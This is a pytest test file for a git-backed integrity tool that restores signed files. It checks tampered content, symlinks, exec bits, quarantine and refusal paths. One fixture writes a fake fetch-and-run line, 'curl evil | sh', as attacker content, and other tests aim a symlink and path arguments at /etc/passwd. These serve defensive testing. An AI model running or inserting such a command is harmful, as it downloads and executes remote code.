"""qeguard restore: signed content back from git objects, never anything else."""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from helpers import KeyPair, git_run, integrity_findings, protect, run_qeguard
from qeguard.cli.console import Console
from qeguard.cli.main import main
from qeguard.integrity.gate import open_context, work_tree
from qeguard.integrity.restore import Action, load_signed, restorer_for

MODEL = "src/pkg/core/model.py"
ORIGINAL = "def predict(x):\n    return 2 * x\n"


@pytest.fixture
def guarded(repo: Path, keypair: Callable[..., KeyPair]) -> Path:
    protect(repo, keypair("alice"), special=True)
    return repo


def quarantined(root: Path) -> list[str]:
    base = root / ".qeguard/quarantine"
    return sorted(
        p.relative_to(base).as_posix().split("/", 1)[1]
        for p in base.rglob("*")
        if not p.is_dir() and p.name != ".gitignore"
    )


def test_restore_modified_file_keeps_tampered_copy(guarded: Path) -> None:
    (guarded / MODEL).write_text("def predict(x):\n    return 0\n")
    code, out, _ = run_qeguard("restore", MODEL, cwd=guarded)
    assert code == 0, out
    assert "restored" in out and "HEAD:" in out
    assert (guarded / MODEL).read_text() == ORIGINAL
    assert quarantined(guarded) == [MODEL]
    copy = next((guarded / ".qeguard/quarantine").rglob("model.py"))
    assert copy.read_text() == "def predict(x):\n    return 0\n"
    assert integrity_findings(guarded) == []
    # The quarantine is never committed and never protected.
    assert git_run(guarded, "status", "--porcelain", "--untracked-files=all") == ""


def test_restore_all_brings_back_exec_bit_symlink_and_deleted_file(guarded: Path) -> None:
    (guarded / "src/pkg/core/run.sh").unlink()
    link = guarded / "src/pkg/core/link.py"
    link.unlink()
    os.symlink("/etc/passwd", link)
    os.chmod(guarded / "src/pkg/util.py", 0o755)
    before = integrity_findings(guarded)
    assert before == [
        "QG-INT-EXEC src/pkg/util.py",
        "QG-INT-MISSING src/pkg/core/run.sh",
        "QG-INT-SYMLINK src/pkg/core/link.py",
    ]
    code, out, _ = run_qeguard("restore", "--all", cwd=guarded)
    assert code == 0, out
    assert os.access(guarded / "src/pkg/core/run.sh", os.X_OK)
    assert os.readlink(link) == "model.py"
    assert not os.access(guarded / "src/pkg/util.py", os.X_OK)
    assert integrity_findings(guarded) == []
    assert quarantined(guarded) == ["src/pkg/core/link.py"]  # the deleted file left nothing


def test_restore_folder_argument_and_dry_run(guarded: Path, chdir: Callable[[Path], None]) -> None:
    (guarded / MODEL).write_text("tampered\n")
    # Without -C, paths are relative to the current folder, as in git.
    chdir(guarded / "src/pkg")
    out = io.StringIO()
    assert main(["restore", "--dry-run", "core"], Console(out, io.StringIO())) == 0
    assert f"would restore: {MODEL}" in out.getvalue()
    assert (guarded / MODEL).read_text() == "tampered\n"
    assert not (guarded / ".qeguard/quarantine").exists()
    assert main(["restore", "core"], Console(io.StringIO(), io.StringIO())) == 0
    assert (guarded / MODEL).read_text() == ORIGINAL


def test_source_order_index_then_history_then_any_blob(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    protect(repo, keypair("alice"), special=True)
    ctx = open_context(repo)
    signed = load_signed(ctx, work_tree(ctx)).entries[MODEL]
    restorer = restorer_for(ctx)
    # HEAD moved on without re-signing: the signed version is only in history now.
    (repo / MODEL).write_text("unsigned change\n")
    git_run(repo, "commit", "-q", "-am", "unsigned change")
    outcome = restorer.restore(signed)
    assert outcome.action is Action.RESTORED
    assert outcome.source is not None and outcome.source.startswith("commit ")
    # Staged but never committed content is found in the index (the entry is built by
    # hand: signing it would need a commit first).
    (repo / "src/pkg/core/new.py").write_text("NEW = 1\n")
    git_run(repo, "add", "src/pkg/core/new.py")
    from qeguard.integrity.manifest import Entry, Kind

    new = Entry(
        path="src/pkg/core/new.py",
        sha256=hashlib.sha256(b"NEW = 1\n").hexdigest(),
        mode="100644",
        kind=Kind.FILE,
    )
    (repo / "src/pkg/core/new.py").write_text("changed\n")
    outcome = restorer.restore(type(signed)(entry=new, tier=signed.tier))
    assert (outcome.action, outcome.source) == (Action.RESTORED, "index")
    # A blob no commit or index holds is still found by the full object scan.
    data = b"orphan = True\n"
    blob = (
        subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=repo,
            input=data,
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    orphan = Entry(
        path="src/pkg/core/orphan.py",
        sha256=hashlib.sha256(data).hexdigest(),
        mode="100644",
        kind=Kind.FILE,
    )
    outcome = restorer.restore(type(signed)(entry=orphan, tier=signed.tier))
    assert (outcome.action, outcome.source) == (Action.RESTORED, f"blob {blob[:12]}")
    assert (repo / "src/pkg/core/orphan.py").read_bytes() == data


def test_content_never_in_git_is_not_found_and_nothing_is_written(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    protect(repo, keypair("alice"), special=True)
    (repo / "src/pkg/core/extra.py").write_text("signed but never added to git\n")
    assert run_qeguard("sign", "--key", repo.parent / "keys/alice", cwd=repo).code == 0
    (repo / "src/pkg/core/extra.py").write_text("tampered\n")
    code, out, _ = run_qeguard("restore", "src/pkg/core/extra.py", cwd=repo)
    assert code == 1
    assert "not found" in out and "nothing written" in out
    assert (repo / "src/pkg/core/extra.py").read_text() == "tampered\n"
    assert not (repo / ".qeguard/quarantine").exists()


def test_tampered_manifest_cannot_steer_a_restore(guarded: Path) -> None:
    # The attacker commits evil content (so a blob exists) and points the list at it.
    evil = "import os; os.system('curl evil | sh')\n"
    (guarded / "evil.txt").write_text(evil)
    git_run(guarded, "add", "evil.txt")
    git_run(guarded, "commit", "-q", "-m", "innocent")
    lst = guarded / ".qeguard/manifests/core.list"
    good = hashlib.sha256(ORIGINAL.encode()).hexdigest()
    lst.write_text(lst.read_text().replace(good, hashlib.sha256(evil.encode()).hexdigest()))
    (guarded / MODEL).write_text("tampered\n")
    code, _, err = run_qeguard("restore", MODEL, cwd=guarded)
    assert code == 2
    assert "not trusted" in err
    assert (guarded / MODEL).read_text() == "tampered\n"


def test_usage_errors(guarded: Path) -> None:
    assert run_qeguard("restore", cwd=guarded).code == 2
    code, _, err = run_qeguard("restore", "notes.txt", cwd=guarded)
    assert code == 2 and "not a protected file" in err
    code, _, err = run_qeguard("restore", "/etc/passwd", cwd=guarded)
    assert code == 2 and "outside the repository" in err
    code, _, err = run_qeguard("restore", "--all", cwd=guarded)
    assert code == 0 and "nothing to restore" in err


def test_parent_symlink_blocks_the_write(guarded: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    core = guarded / "src/pkg/core"
    os.rename(core, tmp_path / "moved-core")
    os.symlink(outside, core)
    code, out, _ = run_qeguard("restore", MODEL, cwd=guarded)
    assert code == 1
    assert "blocked" in out and "symlink" in out
    assert list(outside.iterdir()) == []
